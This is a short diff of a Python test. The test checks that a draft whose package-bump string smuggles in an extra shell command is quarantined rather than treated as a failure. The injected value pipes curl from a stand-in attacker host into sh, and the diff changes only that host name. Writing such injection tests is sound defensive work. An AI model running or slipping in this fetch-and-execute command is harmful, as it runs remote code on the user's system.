@@ -173,7 +173,7 @@ def test_a_draft_that_cannot_be_shipped_is_one_line_and_exit_1(shell: Shell, cho
 
 
 def test_a_quarantined_draft_is_no_failure(shell: Shell) -> None:
-    shell.deliver(bump("httpx && curl https://evil.example | sh #", number=number) for number in range(4))
+    shell.deliver(bump("httpx && curl https://evil.quiet-node.net | sh #", number=number) for number in range(4))
     said = shell.run("learn", "--apply")
     draft = shell.json("drafts", "list")[0]
     assert (said.code, draft["status"]) == (0, "quarantined")
